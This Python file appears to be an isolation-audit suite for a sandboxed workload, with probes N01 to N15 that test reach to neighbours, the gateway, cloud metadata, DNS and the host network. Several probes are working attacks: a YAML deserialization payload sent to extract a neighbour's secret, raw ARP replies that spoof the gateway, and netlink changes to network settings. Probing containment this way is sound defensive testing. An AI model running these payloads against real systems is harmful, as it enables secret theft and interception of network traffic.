def N01(scene):
    """By the neighbour's own hole: only it can tell its secret."""
    question = b'!!python/object/apply:os.getenv ["NEIGHBOUR_SECRET"]\n'
    request = b"POST / HTTP/1.0\r\nContent-Length: %d\r\n\r\n%s" % (len(question), question)
    return {"found": [ask(scene["neighbourAddress"], port, request) for port in scene["neighbourPorts"]]}


def N02(scene):
    return {"found": ask("127.0.0.1", scene["loopbackPort"])}


def N03(scene):
    places = [scene["gateway"], scene["hostAddress"]]
    return {"found": [ask(place, scene["anyPort"], seconds=4) for place in places if place]}


def N04(scene):
    request = b"GET /version HTTP/1.0\r\nHost: engine\r\n\r\n"
    return {"found": [ask(path, None, request, family=socket.AF_UNIX) for path in scene["engineSockets"]]}


def N05(scene):
    places = ["127.0.0.1", scene["gateway"]]
    return {"found": [ask(place, 2019, b"GET /config/ HTTP/1.0\r\n\r\n", 4) for place in places if place]}


def N06(scene):
    kinds = [(socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET, socket.SOCK_RAW, 255),
             (socket.AF_PACKET, socket.SOCK_RAW, 0)]
    return {"opened": [str(kind) for kind in kinds if attempt(lambda: socket.socket(*kind).close()) == "done"]}


def N07(scene):
    """Tells the neighbour that the gateway is here."""
    import fcntl
    sent = 0
    if not scene["gateway"]:
        return {"sent": 0, "own": ""}  # they are on no link
    for _, name in socket.if_nameindex():
        if name == "lo":
            continue
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as wire:
            wire.bind((name, 0x0806))
            own = fcntl.ioctl(wire.fileno(), 0x8927, struct.pack("256s", name.encode()))[18:24]
            head = b"\xff" * 6 + own + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x0800, 6, 4, 2)
            gateway, victim = socket.inet_aton(scene["gateway"]), socket.inet_aton(scene["neighbourAddress"])
            for _ in range(10):
                wire.send(head + own + gateway + b"\xff" * 6 + victim)
                sent += 1
                time.sleep(0.1)
    return {"sent": sent, "own": own.hex(":") if sent else ""}


def N08(scene):
    return {"found": ask(scene["metadata"], 80, b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n")}


def N09(scene):
    return {"found": ask(scene["lan"], 80)}


def N10(scene):
    return {"found": ask(scene["internet"], 80)}


def N11(scene):
    """The neighbour, over addresses that need no route."""
    question = b'!!python/object/apply:os.getenv ["NEIGHBOUR_SECRET"]\n'
    request = b"POST / HTTP/1.0\r\nContent-Length: %d\r\n\r\n%s" % (len(question), question)
    found = []
    for index, name in socket.if_nameindex():
        for address in scene["neighbourLinkLocal"]:
            for port in scene["neighbourPorts"]:
                found.append(ask((address, port, 0, index), None, request, 1, socket.AF_INET6))
    return {"found": found}


def N12(scene):
    with socket.socket() as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        listener.bind(("0.0.0.0", 8443))
        listener.listen()
        return {"bound": True, "network": os.readlink("/proc/self/ns/net")}


def N13(scene):
    families = dict(ALG=38, PACKET=17, VSOCK=40, XDP=44, TIPC=30, RDS=21, KEY=15, CAN=29, BLUETOOTH=31, PPPOX=24,
                    LLC=26, IB=27, NFC=39, QIPCRTR=42, SMC=43, MCTP=45, X25=9, AX25=3, NETROM=6, ROSE=11, PHONET=35)
    opened = []
    for name, number in families.items():
        for kind in (1, 2, 3, 5):
            if attempt(lambda: socket.socket(number, kind, 0).close()) == "done":
                opened.append(name)
                break
    return {"opened": opened}


def N14(scene):
    """A name of the outside, by whatever resolver there is: the way out that firewalls forget."""
    servers = [line.split()[1] for line in text("/etc/resolv.conf").split("\n") if line.startswith("nameserver")]
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05audit\x07invalid\x00\x00\x10\x00\x01"
    found, asked, until = [], [], time.time() + 5
    for server in servers + [scene["internet"], scene["gateway"]]:
        if not server:
            continue
        asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            asking.sendto(query, (server, 53))
            asked.append(asking)
        except OSError as error:
            found.append(word(error))
    for asking in asked:
        try:
            asking.settimeout(max(0.1, until - time.time()))
            found.append(asking.recv(512).decode("latin-1"))
        except OSError as error:
            found.append(word(error))
    return {"found": found}


def N15(scene):
    """Rules and addresses of its own network, changed."""
    def change():
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as route:
            head = struct.pack("IHHII", 32, 16, 5, 1, 0)  # RTM_NEWLINK of lo, as it is, with an acknowledgement
            route.send(head + struct.pack("BxHiII", 0, 0, 1, 1, 1))
            answer = route.recv(4096)
            code = struct.unpack("i", answer[16:20])[0]
            if code != 0:
                raise OSError(-code, "netlink")
    return {"change": attempt(change), "network": os.readlink("/proc/self/ns/net")}
